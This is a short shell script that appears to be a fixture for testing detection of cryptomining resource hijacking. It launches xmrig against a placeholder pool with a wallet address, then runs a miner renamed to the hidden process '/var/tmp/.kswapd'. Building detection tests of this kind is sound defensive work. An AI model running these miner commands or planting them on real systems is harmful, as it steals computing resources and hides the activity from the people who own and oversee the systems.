#!/bin/sh
# Resource hijacking (T1496): a miner by name, a renamed miner with pool options, pool-port
# connections. Every "pool" connection goes to 127.0.0.1 (refused); the pool names are never resolved.
/usr/bin/xmrig -o stratum+tcp://pool.example.invalid:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level 1
/var/tmp/.kswapd --url=stratum+ssl://pool.example.invalid:14444 --cpu-max-threads-hint 75 -B
echo "[corpus] miner done"
